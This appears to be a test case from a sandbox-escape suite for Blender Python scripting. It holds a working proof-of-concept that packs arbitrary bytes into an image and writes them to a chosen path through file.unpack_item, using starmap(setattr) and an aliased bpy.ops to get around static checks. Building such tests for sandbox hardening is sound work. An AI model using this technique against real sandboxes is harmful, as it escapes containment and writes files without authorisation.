# attack: bytes packed into an image are written to any path by file.unpack_item; setattr through starmap
# family: files
import bpy
from itertools import starmap

image = bpy.data.images.new("note", 1, 1)
image.source = "FILE"
list(starmap(setattr, [(image, "filepath", "$SECRET_DIR/b-files-31.txt")]))
image.pack(data=b"any bytes at any path", data_len=21)
_, tools = None, [bpy.ops].pop()
print("REACHED", tools.file.unpack_item.idname(), image.path_resolve("filepath"))
print(tools.file.unpack_item(method="WRITE_ORIGINAL", id_name=image.name, id_type=19785))
print("ESCAPED", "wrote bytes of its own outside")
